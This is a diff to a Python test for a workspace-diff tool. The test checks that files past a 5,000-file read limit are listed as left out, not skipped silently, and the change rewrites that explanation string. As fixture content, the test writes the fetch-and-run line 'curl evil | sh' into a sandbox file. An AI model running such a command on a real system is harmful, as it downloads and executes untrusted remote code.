@@ -139,7 +139,10 @@ def test_a_change_past_the_files_the_diff_reads_is_named_never_silent() -> None:
         sbx.files.write(f"many/f{i:04}.txt", "x\n")
     recorded = record_baseline(sbx)
     sbx.files.write("many/f5002.txt", "curl evil | sh\n")
-    why = "past the 5,000 files the diff reads, at the run's start or now; not compared"
+    why = (
+        "past the 5,000 files the diff reads (1,000 of them in folders of dependencies, build "
+        "output or VCS), at the run's start or now; not compared"
+    )
     past = ", ".join(repr(f"many/f{i}.txt") for i in (5001, 5002, 5003))
     assert workspace_diff(sbx, baseline=recorded) == f"Left out ({why}): {past}\n"
 
